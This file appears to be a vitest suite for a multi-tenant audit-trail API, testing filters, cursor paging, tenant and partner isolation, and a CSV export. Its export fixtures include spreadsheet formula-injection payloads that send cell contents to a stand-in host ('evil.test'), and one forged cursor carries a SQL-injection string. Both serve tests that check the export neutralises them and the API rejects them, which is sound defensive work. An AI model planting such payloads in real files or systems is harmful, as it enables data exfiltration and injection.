import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startHarness, type Harness, type TestTenant } from '@portico/testing';
import { accessPlugin } from '../src/index.js';
import { P } from '../src/permissions.js';
import { asTenant, sessionFor } from '@portico/testing';

interface EventFixture {
  action: string;
  createdAt: string;
  partnerId?: string | null;
  actorPersonId?: string | null;
  targetType?: string;
  targetId?: string | null;
  before?: unknown;
  after?: unknown;
  ip?: string | null;
  requestId?: string | null;
}

/** A small RFC 4180 reader, to check what a spreadsheet would see. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

describe('audit trail', () => {
  let h: Harness;
  let alpha: TestTenant;
  let beta: TestTenant;

  beforeAll(async () => {
    h = await startHarness({ plugins: [accessPlugin] });
    alpha = await h.tenant('alpha');
    beta = await h.tenant('beta');
  });
  afterAll(() => h?.close());

  const knex = () => h.server.database.knex;
  const staff = (t: TestTenant) => h.staff(t, [P.auditRead]);
  const ids = (answer: { body: { items: { id: string }[] } }) => answer.body.items.map((e) => e.id);

  async function addEvents(t: TestTenant, events: EventFixture[]): Promise<string[]> {
    return asTenant(h, t.id, async (trx) => {
      const rows = await trx('audit_events')
        .insert(
          events.map((e) => ({
            tenantId: t.id,
            targetType: 'thing',
            actorKind: e.actorPersonId ? 'staff:session' : 'anonymous',
            ...e,
            before: e.before === undefined ? null : JSON.stringify(e.before),
            after: e.after === undefined ? null : JSON.stringify(e.after),
          })),
        )
        .returning('id');
      return rows.map((r: { id: string }) => r.id as string);
    });
  }

  async function addPerson(t: TestTenant, name: string, email: string): Promise<string> {
    return asTenant(h, t.id, async (trx) => {
      const [person] = await trx('people').insert({ tenantId: t.id, kind: 'staff', email, name, status: 'active' }).returning('id');
      await trx('memberships').insert({ tenantId: t.id, personId: person.id, partnerId: null, role: 'support' });
      return person.id as string;
    });
  }

  const list = (auth: string, query = '') => h.api('GET', `/api/v1/access/audit${query ? `?${query}` : ''}`, { auth });
  const exportCsv = (auth: string | undefined, query = '', headers: Record<string, string> = {}) =>
    h.api('GET', `/api/v1/access/audit/export${query ? `?${query}` : ''}`, { auth, headers });

  describe('filters', () => {
    let t: TestTenant;
    let e: string[];

    beforeAll(async () => {
      t = await h.tenant('filters');
      e = await addEvents(t, [
        { action: 'deals.deal.submitted', createdAt: '2026-01-10T10:00:00Z', partnerId: t.partnerId, actorPersonId: t.memberId, targetType: 'deal', targetId: 'd-1', after: { amount: 100 } },
        { action: 'deals.deal.approved', createdAt: '2026-01-11T10:00:00Z', partnerId: t.partnerId, actorPersonId: t.staffId, targetType: 'deal', targetId: 'd-1', before: { status: 'submitted' }, after: { status: 'approved' } },
        { action: 'dealsx.thing.done', createdAt: '2026-01-12T10:00:00Z', actorPersonId: t.staffId, targetType: 'deal', targetId: 'd-2' },
        { action: 'access.group.created', createdAt: '2026-01-13T10:00:00Z', actorPersonId: t.staffId, targetType: 'access_group', targetId: 'g-1' },
        { action: 'deals_old.moved', createdAt: '2026-01-14T10:00:00Z', targetType: 'deal', targetId: 'd-3' },
        { action: 'dealsZold.moved', createdAt: '2026-01-15T10:00:00Z', targetType: 'deal', targetId: 'd-4' },
      ]);
    });

    it('answers events newest first, with their actor in one piece', async () => {
      const answer = await list(staff(t));
      expect(answer.status, answer.text).toBe(200);
      expect(ids(answer)).toEqual([...e].reverse());
      expect(answer.body.nextCursor).toBeNull();
      const approved = answer.body.items.find((i: any) => i.id === e[1]);
      expect(approved).toEqual({
        id: e[1],
        createdAt: '2026-01-11T10:00:00.000Z',
        action: 'deals.deal.approved',
        // No registered plugin declares it here (only access is): its key stands for its label.
        actionLabel: 'deals.deal.approved',
        targetType: 'deal',
        targetId: 'd-1',
        targetName: null,
        partnerId: t.partnerId,
        actor: { id: t.staffId, name: 'Staff', email: 'staff@filters.test' },
        actorKind: 'staff:session',
        before: { status: 'submitted' },
        after: { status: 'approved' },
        ip: null,
        requestId: null,
      });
      expect(answer.body.items.find((i: any) => i.id === e[4]).actor).toBeNull();
    });

    it('filters by actor, exact action, action prefix, target and date range', async () => {
      const auth = staff(t);
      expect(ids(await list(auth, `actorId=${t.memberId}`))).toEqual([e[0]]);
      expect(ids(await list(auth, 'action=deals.deal.approved'))).toEqual([e[1]]);
      expect(ids(await list(auth, 'action=deals.*'))).toEqual([e[1], e[0]]);
      expect(ids(await list(auth, 'action=deals'))).toEqual([]);
      // `_` and `%` are letters in a prefix, not wildcards.
      expect(ids(await list(auth, 'action=deals_*'))).toEqual([e[4]]);
      expect(ids(await list(auth, 'action=*'))).toHaveLength(e.length);
      expect(ids(await list(auth, 'targetType=deal&targetId=d-1'))).toEqual([e[1], e[0]]);
      expect(ids(await list(auth, 'targetType=access_group'))).toEqual([e[3]]);
      expect(ids(await list(auth, `from=${encodeURIComponent('2026-01-11T10:00:00Z')}&to=${encodeURIComponent('2026-01-13T10:00:00+00:00')}`))).toEqual([e[3], e[2], e[1]]);
      expect(ids(await list(auth, `from=${encodeURIComponent('2026-01-14T11:00:00+01:00')}`))).toEqual([e[5], e[4]]);
      expect(ids(await list(auth, `action=deals.*&actorId=${t.staffId}&from=2026-01-01T00:00:00Z`))).toEqual([e[1]]);
    });

    it('refuses filters that make no sense with 400 naming the parameter', async () => {
      const auth = staff(t);
      const reversed = await list(auth, 'from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z');
      expect(reversed.status).toBe(400);
      expect(reversed.body.errors).toContainEqual(expect.objectContaining({ in: 'query', field: '/to' }));
      const notADate = await list(auth, 'from=yesterday');
      expect(notADate.status).toBe(400);
      expect(notADate.body.errors).toContainEqual(expect.objectContaining({ in: 'query', field: '/from' }));
      const badActor = await list(auth, 'actorId=42');
      expect(badActor.status).toBe(400);
      expect(badActor.body.errors).toContainEqual(expect.objectContaining({ in: 'query', field: '/actorId' }));
      for (const forged of ['not-a-cursor', Buffer.from(JSON.stringify(['2026-02-30T00:00:00.000000Z', e[0]])).toString('base64url'), Buffer.from(JSON.stringify(["'; drop table x", 'y'])).toString('base64url')]) {
        const answer = await list(auth, `cursor=${forged}`);
        expect(answer.status, forged).toBe(400);
        expect(answer.body.errors).toContainEqual(expect.objectContaining({ in: 'query', field: '/cursor' }));
      }
    });

    it('names the shared targets — a person, a partner, a client — as they are now, in the list and the CSV (issue 23, item 9)', async () => {
      const named = await h.tenant('named-targets');
      const clientId = await asTenant(h, named.id, async (trx) => (await trx('clients').insert({ tenantId: named.id, partnerId: named.partnerId, name: 'Contoso Ltd' }).returning('id'))[0].id as string);
      await addEvents(named, [
        { action: 'access.person.invited', createdAt: '2026-02-01T10:00:00Z', targetType: 'person', targetId: named.memberId },
        { action: 'access.partner.updated', createdAt: '2026-02-02T10:00:00Z', targetType: 'partner', targetId: named.partnerId },
        { action: 'fleet.client.fed', createdAt: '2026-02-03T10:00:00Z', targetType: 'client', targetId: clientId },
        { action: 'access.person.removed', createdAt: '2026-02-04T10:00:00Z', targetType: 'person', targetId: '00000000-0000-4000-8000-000000000000' },
      ]);
      const items = (await list(staff(named))).body.items as { action: string; targetName: string | null }[];
      const nameOf = (action: string) => items.find((i) => i.action === action)!.targetName;
      expect(nameOf('access.person.invited')).toBe('Member');
      expect(nameOf('access.partner.updated')).toBe('named-targets partner');
      expect(nameOf('fleet.client.fed')).toBe('Contoso Ltd');
      expect(nameOf('access.person.removed')).toBeNull();
      const rows = parseCsv((await exportCsv(staff(named))).text);
      expect(rows.find((r) => r[1] === 'fleet.client.fed')![7]).toBe('Contoso Ltd');
    });

    it('shows real audited changes with who made them, from where', async () => {
      const admin = h.actors.mint({ kind: 'staff', tenantId: t.id, personId: t.staffId, partnerId: null, roles: ['tenant_admin'], permissions: h.server.registry.permissionsOfRole('tenant_admin') });
      const made = await h.api('POST', '/api/v1/access/groups', { auth: admin, body: { name: 'Audited', audience: 'staff', permissions: [] }, headers: { 'x-request-id': 'req-audited-1' } });
      expect(made.status, made.text).toBe(201);
      const answer = await list(staff(t), `targetId=${made.body.id}`);
      expect(answer.body.items).toEqual([
        expect.objectContaining({ action: 'access.group.created', targetType: 'access_group', requestId: 'req-audited-1', actor: { id: t.staffId, name: 'Staff', email: 'staff@filters.test' }, ip: expect.any(String) }),
      ]);
    });
  });

  it('pages through many events by cursor, missing and repeating none, even within one millisecond', async () => {
    const t = await h.tenant('pages');
    const events: EventFixture[] = [];
    // 30 events at the very same instant, 40 a microsecond apart, 60 a second apart.
    for (let i = 0; i < 30; i++) events.push({ action: 'bulk.same', createdAt: '2026-01-05T10:00:00.123456Z' });
    for (let i = 0; i < 40; i++) events.push({ action: 'bulk.micro', createdAt: `2026-01-05T11:00:00.123${String(100 + i).padStart(3, '0')}Z` });
    for (let i = 0; i < 60; i++) events.push({ action: 'bulk.seconds', createdAt: new Date(Date.UTC(2026, 0, 6, 0, 0, i)).toISOString() });
    await addEvents(t, events);
    const expected = (await knex()('audit_events').where({ tenantId: t.id }).orderBy([{ column: 'created_at', order: 'desc' }, { column: 'id', order: 'desc' }]).select('id')).map((r: { id: string }) => r.id);
    expect(expected).toHaveLength(130);

    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const answer: any = await list(staff(t), `limit=7${cursor ? `&cursor=${cursor}` : ''}`);
      expect(answer.status, answer.text).toBe(200);
      expect(answer.body.items.length).toBeLessThanOrEqual(7);
      seen.push(...ids(answer));
      cursor = answer.body.nextCursor;
      pages++;
    } while (cursor && pages < 50);
    expect(pages).toBe(19);
    expect(seen).toEqual(expected);

    const capped = await list(staff(t), 'limit=101');
    expect(capped.status).toBe(400);
    expect((await list(staff(t), 'limit=100')).body.items).toHaveLength(100);
  });

  describe('who sees what', () => {
    let t: TestTenant;
    let own: string[];
    let other: string[];
    let tenantLevel: string[];

    beforeAll(async () => {
      t = await h.tenant('scopes');
      own = await addEvents(t, [
        { action: 'deals.deal.submitted', createdAt: '2026-01-02T00:00:00Z', partnerId: t.partnerId, actorPersonId: t.memberId },
        { action: 'deals.deal.updated', createdAt: '2026-01-03T00:00:00Z', partnerId: t.partnerId, actorPersonId: t.staffId },
      ]);
      other = await addEvents(t, [{ action: 'deals.deal.submitted', createdAt: '2026-01-04T00:00:00Z', partnerId: t.otherPartnerId }]);
      tenantLevel = await addEvents(t, [{ action: 'access.group.created', createdAt: '2026-01-05T00:00:00Z', partnerId: null, actorPersonId: t.staffId }]);
    });

    it("a partner admin sees only their organisation's events, whatever they ask for", async () => {
      // The harness's member is a partner_admin of the first partner: a real session.
      const session = await sessionFor(h, t.id, t.memberId);
      const asAdmin = (query = '') => h.api('GET', `/api/v1/access/audit${query ? `?${query}` : ''}`, { headers: session.headers() });
      const mine = await asAdmin();
      expect(mine.status, mine.text).toBe(200);
      expect(ids(mine)).toEqual([...own].reverse());
      expect(ids(await asAdmin(`partnerId=${t.otherPartnerId}`))).toEqual([]);
      expect(ids(await asAdmin(`partnerId=${t.partnerId}`))).toEqual([...own].reverse());
      expect(ids(await asAdmin(`targetType=thing&action=*`))).toEqual([...own].reverse());

      const csv = await h.api('GET', '/api/v1/access/audit/export', { headers: session.headers() });
      expect(csv.status, csv.text).toBe(200);
      const rows = parseCsv(csv.text);
      expect(rows).toHaveLength(1 + own.length);
      expect(rows.slice(1).every((r) => r[8] === t.partnerId)).toBe(true);

      // A member acting for another organisation sees that one's, and only it.
      const otherMember = h.member(t, [P.auditRead], t.otherPartnerId);
      expect(ids(await list(otherMember))).toEqual(other);
      expect(ids(await list(otherMember, `partnerId=${t.partnerId}`))).toEqual([]);
    });

    it('staff see the whole tenant, and may narrow it to one organisation', async () => {
      const all = await list(staff(t));
      const exports = all.body.items.filter((i: any) => i.action === 'access.audit.exported');
      // The partner admin's export above is an event of their organisation.
      expect(exports.every((i: any) => i.partnerId === t.partnerId)).toBe(true);
      expect(new Set(ids(all))).toEqual(new Set([...own, ...other, ...tenantLevel, ...exports.map((i: any) => i.id)]));
      expect(ids(await list(staff(t), `partnerId=${t.otherPartnerId}`))).toEqual(other);
    });

    it('refuses people without the permission', async () => {
      const support = h.actors.mint({ kind: 'staff', tenantId: t.id, personId: t.staffId, partnerId: null, roles: ['support'], permissions: h.server.registry.permissionsOfRole('support') });
      expect((await list(support)).status).toBe(403);
      expect((await exportCsv(support)).status).toBe(403);
      expect((await exportCsv(undefined)).status).toBe(401);
    });
  });

  describe('CSV export', () => {
    let t: TestTenant;
    let shady: string;

    beforeAll(async () => {
      t = await h.tenant('export');
      shady = await addPerson(t, '=HYPERLINK("http://evil.test/?"&A1,"Click me")', 'shady@export.test');
      await addEvents(t, [
        { action: 'deals.deal.submitted', createdAt: '2026-01-02T08:00:00.5Z', partnerId: t.partnerId, actorPersonId: t.staffId, targetType: 'deal', targetId: 'd-1', ip: '10.0.0.1', requestId: 'req-1', after: { customer: 'Acme, "Inc."\nEMEA' } },
        { action: 'deals.deal.updated', createdAt: '2026-01-03T08:00:00Z', partnerId: null, actorPersonId: shady, targetType: 'deal', targetId: '+1-555-0100', after: { note: '=HYPERLINK("http://evil.test","x")' } },
        { action: 'other.thing', createdAt: '2026-01-04T08:00:00Z', targetType: '@risk', targetId: '-2+3' },
        { action: 'other.lines', createdAt: '2026-01-05T08:00:00Z', targetId: 'line one\r\nline "two", three' },
      ]);
    });

    it('answers a CSV file of the filtered events, newest first, escaped and safe to open in a spreadsheet', async () => {
      const answer = await exportCsv(staff(t), 'action=deals.*');
      expect(answer.status, answer.text).toBe(200);
      expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="audit-\d{4}-\d{2}-\d{2}\.csv"$/);
      expect(answer.headers.get('x-portico-truncated')).toBeNull();
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');

      const rows = parseCsv(answer.text);
      expect(rows[0]).toEqual(['created_at', 'action', 'action_label', 'actor_email', 'actor_name', 'target_type', 'target_id', 'target_name', 'partner_id', 'ip', 'request_id', 'before', 'after']);
      expect(rows).toHaveLength(3);
      const [updated, submitted] = rows.slice(1);
      expect(submitted).toEqual(['2026-01-02T08:00:00.500000Z', 'deals.deal.submitted', 'deals.deal.submitted', 'staff@export.test', 'Staff', 'deal', 'd-1', '', t.partnerId, '10.0.0.1', 'req-1', '', JSON.stringify({ customer: 'Acme, "Inc."\nEMEA' })]);
      // Quotes, commas and newlines are inside a quoted cell.
      expect(answer.text).toContain('"{""customer"":""Acme, \\""Inc.\\""\\nEMEA""}"');

      // A name or id that a spreadsheet would run as a formula is neutralised; the JSON stays intact.
      expect(updated[4]).toBe(`'=HYPERLINK("http://evil.test/?"&A1,"Click me")`);
      expect(updated[6]).toBe("'+1-555-0100");
      expect(JSON.parse(updated[12])).toEqual({ note: '=HYPERLINK("http://evil.test","x")' });
      expect(updated[8]).toBe('');

      const everything = parseCsv((await exportCsv(staff(t))).text);
      const odd = everything.find((r) => r[1] === 'other.thing')!;
      expect(odd[5]).toBe("'@risk");
      expect(odd[6]).toBe("'-2+3");
      expect(odd.slice(3, 5)).toEqual(['', '']);
      expect(everything.find((r) => r[1] === 'other.lines')![6]).toBe('line one\r\nline "two", three');
      // The header, the five events, and the export just before (audited).
      expect(everything.map((r) => r[1]).slice(1).sort()).toEqual(['access.audit.exported', 'deals.deal.submitted', 'deals.deal.updated', 'other.lines', 'other.thing']);
      for (const row of everything.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });

    it('is itself audited, with the filters it used', async () => {
      const auth = staff(t);
      const answer = await exportCsv(auth, `action=deals.*&from=2026-01-01T00:00:00Z`, { 'x-request-id': 'req-export-1' });
      expect(answer.status).toBe(200);
      const [event] = await knex()('audit_events').where({ tenantId: t.id, requestId: 'req-export-1' });
      expect(event).toMatchObject({
        action: 'access.audit.exported',
        actorPersonId: t.staffId,
        partnerId: null,
        after: { filters: { action: 'deals.*', from: '2026-01-01T00:00:00Z' }, rowCount: 2, truncated: false },
      });
      // …and it shows in the trail.
      const trail = await list(auth, 'action=access.audit.exported');
      expect(trail.body.items.map((i: any) => i.requestId)).toContain('req-export-1');
    });

    it('stops at 50,000 rows and says so', async () => {
      const big = await h.tenant('big');
      await knex().raw(
        `insert into audit_events (tenant_id, action, target_type, created_at)
         select ?, 'bulk.event', 'thing', timestamptz '2026-01-01T00:00:00Z' + i * interval '1 second' from generate_series(1, 50001) as i`,
        [big.id],
      );
      const answer = await exportCsv(staff(big));
      expect(answer.status).toBe(200);
      expect(answer.headers.get('x-portico-truncated')).toBe('true');
      const lines = answer.text.trimEnd().split('\r\n');
      expect(lines).toHaveLength(50_001);
      // Newest first: the oldest event is the one left out.
      expect(lines[1].startsWith('2026-01-01T13:53:21.000000Z,')).toBe(true);
      expect(lines[50_000].startsWith('2026-01-01T00:00:02.000000Z,')).toBe(true);
      const [event] = await knex()('audit_events').where({ tenantId: big.id, action: 'access.audit.exported' });
      expect(event.after).toMatchObject({ rowCount: 50_000, truncated: true });
    }, 120_000);
  });

  it('never shows one tenant anything of another', async () => {
    const marker = await addEvents(alpha, [{ action: 'secret.alpha.thing', createdAt: '2026-01-20T00:00:00Z', partnerId: alpha.partnerId, actorPersonId: alpha.staffId, targetId: 'alpha-target' }]);
    const betaStaff = staff(beta);
    const betaMember = h.member(beta, [P.auditRead]);
    for (const auth of [betaStaff, betaMember]) {
      for (const query of ['', 'action=secret.*', `actorId=${alpha.staffId}`, `partnerId=${alpha.partnerId}`, 'targetId=alpha-target']) {
        const answer = await list(auth, query);
        expect(answer.status).toBe(200);
        expect(answer.text).not.toContain(marker[0]);
        expect(answer.text).not.toContain('secret.alpha');
        const csv = await exportCsv(auth, query);
        expect(csv.status).toBe(200);
        expect(csv.text).not.toContain('secret.alpha');
      }
    }
    expect(ids(await list(staff(alpha), 'action=secret.*'))).toEqual(marker);
  });
});
